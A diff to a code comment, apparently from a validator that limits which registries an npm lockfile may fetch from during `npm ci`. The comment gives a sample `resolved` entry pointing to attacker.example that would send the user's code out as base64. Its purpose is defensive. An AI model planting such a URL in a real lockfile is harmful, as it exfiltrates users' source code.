@@ -2,8 +2,8 @@
  * What a candidate's lockfile may make `npm ci` fetch. The install runs with the host's network, so every URL in the
  * lockfile is a request the candidate chose: `resolved: "https://attacker.example/<the code, base64>.tgz"` would carry
  * the user's code out, and a git or ssh source runs git with the network. Only tarballs from registries the user's
- * own lockfile already trusts (the parent's; always npm's public registry) are allowed, over https; local links
- * (workspaces, `link: true`) need no network and pass.
+ * own lockfile already uses (the parent's: an internal registry is the user's choice) and npm's public registry are
+ * allowed; local links (workspaces, `link: true`) need no network and pass.
  *
  * `resolved` is not the only source: npm fetches an entry without one as `<name>@<version>` (and one with it as
  * `<name from its path>@<resolved>`), so a URL or git spec in the version, or a name carrying `@<spec>`, goes wherever
